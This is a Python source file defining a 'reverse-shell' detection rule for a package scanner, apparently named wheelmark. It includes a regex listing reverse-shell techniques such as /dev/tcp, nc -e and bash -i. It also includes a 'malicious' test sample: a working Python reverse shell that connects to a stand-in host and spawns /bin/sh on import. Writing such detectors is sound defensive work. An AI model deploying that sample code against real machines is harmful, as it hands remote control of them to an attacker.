"""A shell whose input and output are a connection to somebody else."""

from __future__ import annotations

import re
from collections.abc import Iterator

from wheelmark.scan.facts import Act, Call, Facts
from wheelmark.scan.report import Severity, Tactic
from wheelmark.scan.rule import Evidence, Rule
from wheelmark.scan.rules._common import graded, shown
from wheelmark.scan.samples import Sample, Samples

_SHELL_TEXT = re.compile(
    r"(?i)(/dev/tcp/|\bn(c|cat)\b[^|;&]*\s-(e|c)\b|mkfifo\s[^;]*;.*\bnc\b|Net\.Sockets\.TCPClient|\bsocat\b.*exec:|bash\s+-i\s*>&)"
)


def check(facts: Facts) -> Iterator[Evidence]:
    connected = {(call.member, call.scope) for call in facts.calls_of(Act.CONNECT)}
    redirected = {(call.member, call.scope) for call in facts.calls_of(Act.REDIRECT) if call.name == "os.dup2"}
    for call in facts.calls_of(Act.START_PROCESS):
        text = call.text
        place = (call.member, call.scope)
        if _SHELL_TEXT.search(text) or (place in connected and (place in redirected or _wired_to_socket(call))):
            severity = graded(call.context, automatic=Severity.CRITICAL, entry=Severity.HIGH, on_call=Severity.HIGH)
        else:
            continue
        if severity is not None:
            yield Evidence.of_call(call, severity, shown(call))


def _wired_to_socket(call: Call) -> bool:
    return any(
        name in {"stdin", "stdout"} and value.name.startswith("socket.socket()") for name, value in call.keywords
    )


RULE = Rule(
    id="reverse-shell",
    version=2,
    severity=Severity.CRITICAL,
    tactic=Tactic.COMMAND_AND_CONTROL,
    message="A shell is connected to a machine elsewhere, which then controls this one.",
    reference="https://attack.mitre.org/techniques/T1059/004/",
    check=check,
    samples=Samples(
        malicious=(
            Sample.imported("""
                import os
                import pty
                import socket


                def _serve():
                    link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                    link.connect(("shell.example.invalid", 4444))
                    for descriptor in (0, 1, 2):
                        os.dup2(link.fileno(), descriptor)
                    pty.spawn("/bin/sh")


                _serve()
            """),
        ),
        benign=(
            Sample.imported("""
                import os
                import socket
                import subprocess


                def is_open(host, port):
                    with socket.socket() as link:
                        return link.connect_ex((host, port)) == 0


                def shell():
                    subprocess.run(["/bin/sh"], check=False)


                def redirect(descriptor):
                    os.dup2(descriptor, 1)
            """),
        ),
    ),
)
